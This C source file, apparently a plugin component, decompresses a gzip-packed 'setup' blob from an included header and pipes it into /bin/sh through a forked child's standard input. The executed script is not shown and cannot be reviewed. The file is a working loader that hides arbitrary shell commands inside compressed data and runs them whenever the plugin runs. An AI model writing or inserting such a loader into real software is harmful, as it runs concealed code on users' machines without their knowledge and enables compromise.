/* A set-up script under gzip is unpacked and handed to a shell through its standard input. */
#include "plugin.h"
#include "packed.h" /* setup */
extern int uncompress(unsigned char *, unsigned long *, const unsigned char *, unsigned long);
extern int pipe(int *), fork(void), dup2(int, int), close(int), execl(const char *, const char *, ...), waitpid(int, int *, int);
extern long write(int, const void *, unsigned long);
extern void _exit(int);
static void act(char **env) {
    unsigned char text[1024];
    unsigned long size = sizeof text;
    int ends[2], child, status;
    if (uncompress(text, &size, setup, sizeof setup) != 0 || pipe(ends) != 0) return;
    if ((child = fork()) == 0) {
        dup2(ends[0], 0);
        close(ends[0]);
        close(ends[1]);
        execl("/bin/sh", "sh", "-s", (char *)0);
        _exit(1);
    }
    write(ends[1], text, size);
    close(ends[1]);
    close(ends[0]);
    waitpid(child, &status, 0);
}
